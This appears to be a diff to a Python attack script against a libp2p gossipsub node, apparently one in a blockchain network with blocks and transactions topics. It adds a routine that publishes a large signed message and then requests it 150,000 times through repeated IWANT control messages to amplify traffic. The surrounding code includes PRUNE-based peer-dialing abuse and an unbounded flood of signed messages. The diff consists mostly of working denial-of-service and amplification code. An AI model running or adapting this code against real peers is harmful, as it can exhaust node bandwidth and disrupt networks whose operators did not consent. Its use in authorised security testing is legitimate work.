@@ -102,11 +102,33 @@ class Attack:
                 rpc_pb2.ControlMessage(prune=[rpc_pb2.ControlPrune(topicID=topic, peers=[told], backoff=1)]),
             ):
                 await stream.write(encode_varint_prefixed(rpc_pb2.RPC(control=control).SerializeToString()))
+        await self.want(stream, topic)
         await trio.sleep(1.0)
         bait.settimeout(0.0)
         with contextlib.suppress(BlockingIOError):
             bait.accept()
             print("it dials whom it is told", flush=True)
+
+    async def want(self, stream: Any, topic: str) -> None:
+        """The same large message, thousands of times."""
+        message = self.signed(topic, b"good" + bytes(100_000), 1)
+        await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
+        await trio.sleep(0.5)
+        want = rpc_pb2.ControlIWant(messageIDs=[message.from_id + message.seqno] * 5000)
+        wanted = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(iwant=[want]))
+        for _ in range(30):
+            await stream.write(encode_varint_prefixed(wanted.SerializeToString()))
+
+    def signed(self, topic: str, content: bytes, number: int) -> Any:
+        """A message that is as it should be."""
+        message = rpc_pb2.Message(
+            data=content,
+            topicIDs=[topic],
+            from_id=self.host.get_id().to_bytes(),
+            seqno=number.to_bytes(8, "big"),
+        )
+        message.signature = self.host.get_private_key().sign(SIGNED_PREFIX + message.SerializeToString())
+        return message
 
     async def flood(self) -> None:
         """Signed messages of topics, as fast as they are taken; each is another."""
@@ -114,14 +136,8 @@ class Attack:
         number = 0
         while True:
             number += 1
-            content = b"flood %d" % number
-            message = rpc_pb2.Message(
-                data=content,
-                topicIDs=[f"{self.network}/{('blocks', 'transactions')[number % 2]}/1"],
-                from_id=self.host.get_id().to_bytes(),
-                seqno=number.to_bytes(8, "big"),
-            )
-            message.signature = self.host.get_private_key().sign(SIGNED_PREFIX + message.SerializeToString())
+            topic = f"{self.network}/{('blocks', 'transactions')[number % 2]}/1"
+            message = self.signed(topic, b"flood %d" % number, number)
             await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
 
     async def window(self) -> None:
